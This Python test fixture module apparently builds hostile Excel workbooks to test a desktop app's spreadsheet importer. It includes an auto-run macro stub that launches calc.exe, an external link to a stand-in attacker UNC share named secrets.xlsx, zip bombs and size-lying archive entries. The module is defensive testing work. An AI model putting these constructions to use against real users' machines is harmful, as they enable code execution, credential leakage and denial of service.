"""Excel workbooks written part by part (as a zip of XML), so that one can hold a formula with
its cached value, a macro project, a link to another workbook, or a sheet that is a zip bomb."""

from __future__ import annotations

from xml.sax.saxutils import escape

from desktop_app.domain.ledger_columns import TEMPLATE_HEADERS
from tests.reliability.nasty.ledgers import PEOPLE
from tests.reliability.nasty.zips import Entry, bomb, plain, zip_bytes

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET = "xl/worksheets/sheet1.xml"


def _column(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def _cell(ref: str, value: str | tuple[str, str]) -> str:
    """A text cell, or (formula, cached text) as Excel saves a formula cell."""
    if isinstance(value, tuple):
        formula, cached = value
        return f'<c r="{ref}" t="str"><f>{escape(formula)}</f><v>{escape(cached)}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(value)}</t></is></c>'


def sheet_xml(rows: list[list]) -> bytes:
    body = "".join(
        f'<row r="{r}">' + "".join(_cell(f"{_column(c)}{r}", value)
                                   for c, value in enumerate(row) if value != "") + "</row>"
        for r, row in enumerate(rows, 1))
    return (f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{_MAIN}">'
            f"<sheetData>{body}</sheetData></worksheet>").encode()


def _parts(sheet: Entry, *, macros: bool = False, external_link: bool = False) -> list[Entry]:
    main_type = ("application/vnd.ms-excel.sheet.macroEnabled.main+xml" if macros else
                 "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
    overrides = [("/xl/workbook.xml", main_type), (
        "/xl/worksheets/sheet1.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml")]
    workbook_rels = [("rId1", "worksheet", "worksheets/sheet1.xml")]
    parts = []
    if macros:
        workbook_rels.append(("rId2", "http://schemas.microsoft.com/office/2006/relationships/"
                                      "vbaProject", "vbaProject.bin"))
        parts.append(plain("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 Sub AutoOpen(): Shell "
                                                b"\"calc.exe\": End Sub"))
    if external_link:
        overrides.append(("/xl/externalLinks/externalLink1.xml", "application/vnd."
                          "openxmlformats-officedocument.spreadsheetml.externalLink+xml"))
        workbook_rels.append(("rId3", "externalLink", "externalLinks/externalLink1.xml"))
        parts.append(plain("xl/externalLinks/externalLink1.xml", (
            f'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="{_MAIN}" '
            f'xmlns:r="{_REL}"><externalBook r:id="rId1"/></externalLink>').encode()))
        parts.append(plain("xl/externalLinks/_rels/externalLink1.xml.rels", (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PACKAGE_REL}">'
            f'<Relationship Id="rId1" Type="{_REL}/externalLinkPath" '
            'Target="file:///\\\\attacker\\share\\secrets.xlsx" TargetMode="External"/>'
            "</Relationships>").encode()))
    types = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats'
             '.org/package/2006/content-types"><Default Extension="rels" ContentType="'
             'application/vnd.openxmlformats-package.relationships+xml"/><Default Extension='
             '"xml" ContentType="application/xml"/><Default Extension="bin" ContentType='
             '"application/vnd.ms-office.vbaProject"/>'
             + "".join(f'<Override PartName="{name}" ContentType="{kind}"/>'
                       for name, kind in overrides) + "</Types>")
    rels = "".join(f'<Relationship Id="{rid}" Type="{kind if "/" in kind else _REL + "/" + kind}"'
                   f' Target="{target}"/>' for rid, kind, target in workbook_rels)
    return [
        plain("[Content_Types].xml", types.encode()),
        plain("_rels/.rels", (f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="'
                              f'{_PACKAGE_REL}"><Relationship Id="rId1" Type="{_REL}/'
                              'officeDocument" Target="xl/workbook.xml"/></Relationships>'
                              ).encode()),
        plain("xl/workbook.xml", (f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="'
                                  f'{_MAIN}" xmlns:r="{_REL}"><sheets><sheet name="台帳" '
                                  'sheetId="1" r:id="rId1"/></sheets></workbook>').encode()),
        plain("xl/_rels/workbook.xml.rels", (f'<?xml version="1.0" encoding="UTF-8"?>'
                                             f'<Relationships xmlns="{_PACKAGE_REL}">{rels}'
                                             "</Relationships>").encode()),
        sheet, *parts]


def workbook(rows: list[list] | None = None, **options) -> bytes:
    """A workbook of the template's header and `rows` (default: the good ledger's people)."""
    rows = [list(TEMPLATE_HEADERS), *(PEOPLE if rows is None else rows)]
    return zip_bytes(_parts(plain(SHEET, sheet_xml(rows)), **options))


def truncated() -> bytes:
    data = workbook()
    return data[:len(data) // 2]


def sheet_bomb(size: int) -> bytes:
    """A workbook whose sheet inflates to `size` bytes of blanks after a valid start."""
    head = f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{_MAIN}"><sheetData>'
    return zip_bytes(_parts(bomb(SHEET, size, head=head.encode())))


def lying_size(declared: int) -> bytes:
    """A workbook whose sheet declares `declared` bytes but inflates to its real size."""
    honest = plain(SHEET, sheet_xml([list(TEMPLATE_HEADERS), *PEOPLE]))
    honest.size = declared
    return zip_bytes(_parts(honest))


def broken_sheet() -> bytes:
    """A workbook whose sheet stops half way through its XML."""
    xml = sheet_xml([list(TEMPLATE_HEADERS), *PEOPLE])
    return zip_bytes(_parts(plain(SHEET, xml[:len(xml) * 2 // 3])))
